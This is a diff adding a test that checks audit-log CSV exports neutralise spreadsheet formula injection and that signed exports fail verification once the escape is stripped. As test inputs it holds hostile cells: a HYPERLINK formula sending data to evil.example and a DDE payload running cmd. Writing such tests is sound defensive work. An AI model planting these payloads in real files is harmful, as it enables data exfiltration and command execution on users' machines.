@@ -3,6 +3,7 @@ exports (JSONL and CSV) that verify offline and fail when edited, and the summar
 
 from __future__ import annotations
 
+import csv
 import json
 import os
 from datetime import UTC, datetime, timedelta
@@ -159,3 +160,42 @@ def test_summary_counts_calls_denials_and_bulk_access(log: Database) -> None:
         }
     ]
     assert summary(log, datetime.now(UTC) + timedelta(days=1), None)["calls"] == 0
+
+
+def test_csv_exports_neutralise_formulas_and_still_verify(
+    database: Database, key: CheckpointKey, trust: TrustStore, pinned: list[Certificate]
+) -> None:
+    """Cells a spreadsheet would run as formulas (= + - @, tab, CR; through a User-Agent, a login name, a
+    reason) are written after an apostrophe (and an apostrophe-led cell gets one more); `verify-export` undoes
+    exactly that escape and accepts the file, and refuses a file whose formula lost its apostrophe."""
+    hostile = {
+        "user_agent": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "principal": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "reason": "-2+3",
+        "client": "+1",
+        "matter": "\tTAB",
+        "resource": "'quoted",
+    }
+    record_event(database, event(1, **hostile))
+    record_event(database, event(2, reason="\r=1+1"))
+    checkpoint = make_checkpoint(database, key)
+    now = datetime.now(UTC)
+    lines = list(export_lines(database, AuditQuery(), checkpoint, fmt="csv", generated_at=now))
+    rows = list(csv.reader(lines))
+    header = rows[1]
+    entries = [dict(zip(header, row, strict=True)) for row in rows[2:4]]
+    for name, value in hostile.items():
+        assert entries[0][name] == "'" + value  # neutralised
+    assert entries[1]["reason"] == "'\r=1+1"
+    for row in rows[2:4]:
+        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row)
+    result = verify_export(lines, trust=trust, pinned=pinned)
+    assert result.intact and result.entries == 2, result.problems
+    # what Excel's "save as CSV" or a hand edit would do: the apostrophe gone
+    edited = [line.replace("'=HYPERLINK", "=HYPERLINK") for line in lines]
+    assert edited != lines
+    assert not verify_export(edited, trust=trust, pinned=pinned).intact
+    # JSONL carries the values as they are (no spreadsheet reads it)
+    jsonl = list(export_lines(database, AuditQuery(), checkpoint, fmt="jsonl", generated_at=now))
+    assert json.loads(jsonl[1])["user_agent"] == hostile["user_agent"]
+    assert verify_export(jsonl, trust=trust, pinned=pinned).intact
